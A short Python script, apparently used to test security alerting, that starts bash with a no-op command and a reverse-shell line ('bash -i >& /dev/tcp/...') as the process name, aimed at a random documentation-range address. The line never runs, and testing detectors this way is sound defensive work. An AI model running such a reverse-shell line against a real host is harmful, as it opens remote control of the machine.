#!/usr/bin/env python3
"""Does something that raises an alert which was not there before: the command line of a reverse shell, to an address that nobody has.
Nothing is connected to: bash takes the text for its own name."""

import random
import subprocess

chance = random.SystemRandom()
address, port = f"203.0.113.{chance.randrange(1, 255)}", chance.randrange(1024, 65536)
subprocess.run(["/bin/bash", "-c", ":", f"bash -i >& /dev/tcp/{address}/{port} 0>&1"], check=True)
